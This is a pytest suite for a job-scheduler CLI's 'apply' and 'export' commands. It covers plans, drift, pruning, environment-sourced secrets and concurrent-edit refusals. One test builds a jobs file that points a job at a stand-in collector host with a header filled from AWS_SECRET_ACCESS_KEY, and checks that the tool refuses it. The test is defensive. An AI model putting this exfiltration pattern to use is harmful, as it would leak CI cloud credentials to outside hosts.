"""``duetime apply -f`` and ``duetime export`` against the api function on the in-memory twin: a plan of
creates, field-level updates, unchanged jobs, drift and prunes; idempotent; secrets from the environment,
only from the variables the person applying names (``DUETIME_SECRET_*``, ``--secret-env``); CI's exit codes;
a concurrent edit between plan and apply refused (412) with nothing of it written."""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import yaml

from duetime import cli
from duetime.api.service import JobService
from duetime.cli import apply as apply_command
from duetime.client import ApiFailure, DuetimeClient
from duetime.domain.job_files import desired_jobs, make_plan

from ..api_twin import serving_twin
from ..lambda_support import api_request

NOW = datetime(2026, 12, 17, 12, 0, tzinfo=UTC)


def jobs_file(**overrides: Any) -> dict[str, Any]:
    export = {
        "key": "billing/nightly-export",
        "name": "nightly export",
        "schedule": {"cron": "0 2 * * *", "timezone": "Europe/Paris"},
        "target": {
            "url": "https://example.com/export",
            "headers": {"Authorization": "Bearer ${DUETIME_SECRET_EXPORT_TOKEN}"},
        },
    }
    report = {
        "key": "billing/report",
        "name": "weekly report",
        "schedule": {"cron": "0 9 * * 1", "timezone": "Europe/Paris"},
        "target": {"url": "https://example.com/report"},
    }
    return {"managed_by": "billing-repo", "jobs": [export, report], **overrides}


@pytest.fixture
def service(monkeypatch: pytest.MonkeyPatch) -> Iterator[JobService]:
    with serving_twin(NOW) as twin:
        monkeypatch.setattr(DuetimeClient, "request", _answered_in_process)
        monkeypatch.setenv("DUETIME_TOKEN", twin.token)
        monkeypatch.setenv("DUETIME_SECRET_EXPORT_TOKEN", "s3cret")
        yield twin.service


def _answered_in_process(
    self: DuetimeClient,
    method: str,
    path: str,
    body: Any = None,
    query: Any = None,
    headers: dict[str, str] | None = None,
) -> Any:
    """``DuetimeClient.request``, answered by the api function in this process."""
    sent = {k: str(v) for k, v in (query or {}).items() if v is not None}
    text = None if body is None else json.dumps(body)
    response = api_request(method, path, self.token, text, sent or None, headers)
    answer = json.loads(response["body"]) if response["body"] else None
    if response["statusCode"] >= 400:
        error = answer["error"]
        raise ApiFailure(f"HTTP {response['statusCode']}: {error['message']}", response["statusCode"])
    return answer


def write(path: Path, document: dict[str, Any]) -> str:
    path.write_text(yaml.safe_dump(document, sort_keys=False))
    return str(path)


def twin_client() -> DuetimeClient:
    return DuetimeClient("http://twin", os.environ["DUETIME_TOKEN"])


def team_jobs() -> dict[str, dict[str, Any]]:
    client = twin_client()
    return {job.key: job.model_dump(mode="json") for job in client.jobs() if job.key}


def test_a_first_apply_creates_and_a_second_finds_everything_unchanged(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path, "--yes"]) == 0
    out = capsys.readouterr().out
    assert "+ create    billing/nightly-export" in out and "2 to create" in out
    jobs = team_jobs()
    assert set(jobs) == {"billing/nightly-export", "billing/report"}
    assert jobs["billing/report"]["managed_by"] == "billing-repo"
    stored = service.catalog.get_job(jobs["billing/nightly-export"]["id"])
    assert stored is not None and stored.target.headers == {"Authorization": "Bearer s3cret"}  # from the env

    assert cli.main(["apply", "-f", path, "--yes"]) == 0
    out = capsys.readouterr().out
    assert "0 to create, 0 to update, 0 to delete, 2 unchanged" in out
    assert cli.main(["apply", "-f", path, "--dry-run", "--exit-code"]) == 0


def test_a_changed_field_is_an_update_with_its_diff_and_dry_run_exit_code_says_2(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "jobs.yaml"
    assert cli.main(["apply", "-f", write(path, jobs_file()), "--yes"]) == 0
    changed = jobs_file()
    changed["jobs"][1]["schedule"]["cron"] = "0 10 * * 1"
    write(path, changed)
    capsys.readouterr()
    assert cli.main(["apply", "-f", str(path), "--dry-run", "--exit-code"]) == 2
    out = capsys.readouterr().out
    assert "~ update    billing/report" in out and 'schedule.cron: "0 9 * * 1" -> "0 10 * * 1"' in out
    assert team_jobs()["billing/report"]["schedule"]["cron"] == "0 9 * * 1"  # dry run: nothing written
    assert cli.main(["apply", "-f", str(path), "--yes"]) == 0
    assert team_jobs()["billing/report"]["schedule"]["cron"] == "0 10 * * 1"


def test_a_secret_changed_in_the_environment_is_an_update_though_answers_never_show_it(
    service: JobService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path, "--yes"]) == 0
    monkeypatch.setenv("DUETIME_SECRET_EXPORT_TOKEN", "rotated")
    capsys.readouterr()
    assert cli.main(["apply", "-f", path, "--yes"]) == 0
    assert "secret values changed" in capsys.readouterr().out
    job_id = team_jobs()["billing/nightly-export"]["id"]
    stored = service.catalog.get_job(job_id)
    assert stored is not None and stored.target.headers == {"Authorization": "Bearer rotated"}


def test_an_unset_secret_variable_is_an_error_naming_where_and_nothing_is_applied(
    service: JobService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("DUETIME_SECRET_EXPORT_TOKEN")
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path, "--yes"]) == 1
    assert (
        "jobs.0.target.headers.Authorization (job 'billing/nightly-export'): "
        "${DUETIME_SECRET_EXPORT_TOKEN} is not set in the environment"
    ) in capsys.readouterr().err
    assert team_jobs() == {}
    with_named = jobs_file()
    with_named["jobs"][0]["target"]["headers"] = {"Authorization": "Bearer ${EXPORT_TOKEN}"}
    write(tmp_path / "jobs.yaml", with_named)
    assert cli.main(["apply", "-f", path, "--yes", "--secret-env", "EXPORT_TOKEN"]) == 1
    assert "${EXPORT_TOKEN} is not set in the environment" in capsys.readouterr().err  # named, yet unset
    assert team_jobs() == {}


@pytest.fixture
def requests(monkeypatch: pytest.MonkeyPatch, service: JobService) -> list[str]:
    """Every request's method, path and body the CLI sends (answered by the api function on the twin)."""
    sent: list[str] = []

    def recording(self: DuetimeClient, method: str, path: str, body: Any = None, **kwargs: Any) -> Any:
        sent.append(f"{method} {path} {json.dumps(body)}")
        return _answered_in_process(self, method, path, body, **kwargs)

    monkeypatch.setattr(DuetimeClient, "request", recording)
    return sent


def test_a_variable_nobody_named_is_refused_naming_it_and_where_and_is_never_sent(
    requests: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """One edit to a reviewed file would otherwise send the CI's cloud keys to any public URL."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "the-ci-cloud-key")
    stealing = jobs_file()
    stealing["jobs"][1]["target"] = {
        "url": "https://collector.example.net/",
        "headers": {"X-Key": "${AWS_SECRET_ACCESS_KEY}"},
    }
    path = write(tmp_path / "jobs.yaml", stealing)
    for flags in (["--yes"], ["--dry-run"], ["--yes", "--secret-env", "OTHER_NAME"]):
        assert cli.main(["apply", "-f", path, *flags]) == 1
        captured = capsys.readouterr()
        assert (
            "jobs.yaml: jobs.1.target.headers.X-Key (job 'billing/report'): ${AWS_SECRET_ACCESS_KEY} is not "
            "filled: an apply reads only DUETIME_SECRET_* variables and those named with --secret-env"
        ) in captured.err
        assert "the-ci-cloud-key" not in captured.out + captured.err
    assert requests == []  # refused before any request: nothing applied (not even jobs.0), nothing sent
    assert team_jobs() == {}


def test_a_variable_named_with_secret_env_is_filled_as_a_duetime_secret_one_is(
    requests: list[str],
    service: JobService,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("PARTNER_KEY", "partner-s3cret")
    named = jobs_file()
    named["jobs"][1]["target"]["headers"] = {
        "X-Key": "${PARTNER_KEY}",
        "X-Both": "${PARTNER_KEY}-${CI_TOKEN}",
    }
    path = write(tmp_path / "jobs.yaml", named)
    monkeypatch.setenv("CI_TOKEN", "ci")
    flags = ["--secret-env", "PARTNER_KEY", "--secret-env", "CI_TOKEN"]
    assert cli.main(["apply", "-f", path, "--yes", *flags]) == 0
    stored = service.catalog.get_job(team_jobs()["billing/report"]["id"])
    assert stored is not None and stored.target.headers == {
        "X-Key": "partner-s3cret",
        "X-Both": "partner-s3cret-ci",
    }
    nightly = service.catalog.get_job(team_jobs()["billing/nightly-export"]["id"])
    assert nightly is not None and nightly.target.headers == {
        "Authorization": "Bearer s3cret"
    }  # DUETIME_SECRET_
    assert cli.main(["apply", "-f", path, "--yes", "--secret-env", "PARTNER_KEY"]) == 1  # CI_TOKEN unnamed


def test_secret_env_takes_variable_names_only(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path, "--secret-env", "AWS_*"]) == 2
    assert "--secret-env 'AWS_*': not a variable name" in capsys.readouterr().err


def test_a_job_edited_elsewhere_is_drift_and_is_overwritten_only_with_force(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path, "--yes"]) == 0
    job_id = team_jobs()["billing/report"]["id"]
    service.update_job(service.team("alpha"), job_id, {"name": "renamed in the console"})
    capsys.readouterr()

    assert cli.main(["apply", "-f", path, "--yes"]) == 1
    captured = capsys.readouterr()
    assert "! drift     billing/report" in captured.out and "edited since it was last applied" in captured.out
    assert "--force" in captured.err
    assert team_jobs()["billing/report"]["name"] == "renamed in the console"

    assert cli.main(["apply", "-f", path, "--yes", "--force"]) == 0
    assert team_jobs()["billing/report"]["name"] == "weekly report"


def test_prune_deletes_only_the_jobs_of_the_files_managed_by_that_no_file_names(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "jobs.yaml"
    assert cli.main(["apply", "-f", write(path, jobs_file()), "--yes"]) == 0
    other = {"managed_by": "other-repo", "jobs": [{**jobs_file()["jobs"][1], "key": "other/report"}]}
    assert cli.main(["apply", "-f", write(tmp_path / "other.yaml", other), "--yes"]) == 0
    by_hand = service.create_job(service.team("alpha"), {**jobs_file()["jobs"][1], "key": "by-hand"})
    assert by_hand.key == "by-hand"

    shrunk = jobs_file(jobs=[jobs_file()["jobs"][0]])
    write(path, shrunk)
    capsys.readouterr()
    assert cli.main(["apply", "-f", str(path), "--yes"]) == 0
    assert ". keep      billing/report" in capsys.readouterr().out
    assert "billing/report" in team_jobs()

    assert cli.main(["apply", "-f", str(path), "--yes", "--prune"]) == 0
    assert set(team_jobs()) == {"billing/nightly-export", "other/report", "by-hand"}


def test_a_folder_of_files_is_one_plan_and_a_key_in_two_files_is_refused(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "jobs"
    folder.mkdir()
    first, second = jobs_file()["jobs"]
    write(folder / "a.yaml", jobs_file(jobs=[first]))
    (folder / "b.json").write_text(json.dumps(jobs_file(jobs=[second])))
    assert cli.main(["apply", "-f", str(folder), "--yes"]) == 0
    assert set(team_jobs()) == {"billing/nightly-export", "billing/report"}

    write(folder / "c.yaml", jobs_file(jobs=[second]))
    assert cli.main(["apply", "-f", str(folder), "--yes"]) == 1
    assert "is named in" in capsys.readouterr().err


def test_an_invalid_job_is_refused_naming_file_and_field_before_anything_is_applied(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = jobs_file()
    broken["jobs"][1]["schedule"] = {"cron": "0 0 32W * *"}
    path = write(tmp_path / "jobs.yaml", broken)
    assert cli.main(["apply", "-f", path, "--yes"]) == 1
    assert "jobs.yaml: jobs.1.schedule.cron:" in capsys.readouterr().err
    assert team_jobs() == {}


def test_a_concurrent_edit_between_plan_and_apply_is_refused_and_overwrites_nothing(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "jobs.yaml"
    assert cli.main(["apply", "-f", write(path, jobs_file()), "--yes"]) == 0
    changed = jobs_file()
    changed["jobs"][0]["name"] = "nightly export v2"
    changed["jobs"][1]["name"] = "weekly report v2"
    write(path, changed)
    files = apply_command.job_files(str(path))
    desired = desired_jobs(files, {"DUETIME_SECRET_EXPORT_TOKEN": "s3cret"}, NOW)
    plan = make_plan(desired, team_jobs().values(), {"billing-repo"}, prune=False)
    assert [item.action.value for item in plan.changes] == ["update", "update"]
    # Between the plan and its apply, someone edits the second job.
    report_id = team_jobs()["billing/report"]["id"]
    service.update_job(service.team("alpha"), report_id, {"jitter_seconds": 5})

    assert apply_command.apply_plan(twin_client(), plan) == 1
    err = capsys.readouterr().err
    assert "billing/report: refused: changed since the plan was made (412)" in err
    assert "applied before it: update billing/nightly-export" in err
    jobs = team_jobs()
    assert jobs["billing/nightly-export"]["name"] == "nightly export v2"
    assert jobs["billing/report"]["name"] == "weekly report" and jobs["billing/report"]["jitter_seconds"] == 5


def test_export_writes_a_file_that_applies_back_unchanged(
    service: JobService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    assert cli.main(["apply", "-f", write(tmp_path / "jobs.yaml", jobs_file()), "--yes"]) == 0
    exported = tmp_path / "exported.yaml"
    assert cli.main(["export", "--managed-by", "billing-repo", "-o", str(exported)]) == 0
    err = capsys.readouterr().err
    assert "DUETIME_SECRET_BILLING_NIGHTLY_EXPORT_AUTHORIZATION" in err
    document = yaml.safe_load(exported.read_text())
    assert document["managed_by"] == "billing-repo"
    headers = document["jobs"][0]["target"]["headers"]
    assert headers == {"Authorization": "${DUETIME_SECRET_BILLING_NIGHTLY_EXPORT_AUTHORIZATION}"}
    assert "managed_by" not in document["jobs"][0] and "applied_digest" not in document["jobs"][0]
    assert {job["key"] for job in document["jobs"]} == {"billing/nightly-export", "billing/report"}
    # Its variables are DUETIME_SECRET_ ones: the file applies back without --secret-env.
    monkeypatch.setenv("DUETIME_SECRET_BILLING_NIGHTLY_EXPORT_AUTHORIZATION", "Bearer s3cret")
    assert cli.main(["apply", "-f", str(exported), "--dry-run", "--exit-code"]) == 0
    assert "0 to create, 0 to update, 0 to delete, 2 unchanged" in capsys.readouterr().out


def test_the_python_client_returns_the_apis_typed_models(service: JobService) -> None:
    from duetime.api.schemas import JobOut, RunOut

    api = twin_client()
    job = api.put_job("reports/daily", {"name": "daily", "schedule": {"cron": "0 6 * * *"}, **TARGET})
    assert isinstance(job, JobOut) and job.key == "reports/daily" and job.next_run_at is not None
    run = api.trigger(job.id)
    assert isinstance(run, RunOut) and [r.run_id for r in api.runs(job.id)] == [run.run_id]
    assert api.job_by_key("reports/daily").id == job.id == api.get_job(job.id).id
    assert [j.id for j in api.jobs()] == [job.id]

    paused = api.update_job(job.id, {"paused": True}, if_match=job.etag)
    assert paused.paused and paused.etag != job.etag
    with pytest.raises(ApiFailure) as refused:
        api.update_job(job.id, {"paused": False}, if_match=job.etag)
    assert refused.value.status == 412
    api.delete_job_by_key("reports/daily", if_match=paused.etag)
    assert list(api.jobs()) == []


TARGET = {"target": {"url": "https://example.com/daily"}}


def test_the_plan_prints_as_json_for_scripts(
    service: JobService, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path, "--dry-run", "--json"]) == 0
    plan = json.loads(capsys.readouterr().out)
    assert [(item["action"], item["key"]) for item in plan] == [
        ("create", "billing/nightly-export"),
        ("create", "billing/report"),
    ]


def test_without_yes_and_no_terminal_to_ask_on_nothing_is_applied(
    service: JobService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr("sys.stdin.isatty", lambda: False)
    path = write(tmp_path / "jobs.yaml", jobs_file())
    assert cli.main(["apply", "-f", path]) == 2
    assert "pass --yes" in capsys.readouterr().err
    assert team_jobs() == {}


def test_a_no_at_the_prompt_applies_nothing(
    service: JobService, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("sys.stdin.isatty", lambda: True)
    monkeypatch.setattr("builtins.input", lambda prompt: "n")
    assert cli.main(["apply", "-f", write(tmp_path / "jobs.yaml", jobs_file())]) == 1
    assert team_jobs() == {}
    monkeypatch.setattr("builtins.input", lambda prompt: "yes")
    assert cli.main(["apply", "-f", str(tmp_path / "jobs.yaml")]) == 0
    assert len(team_jobs()) == 2
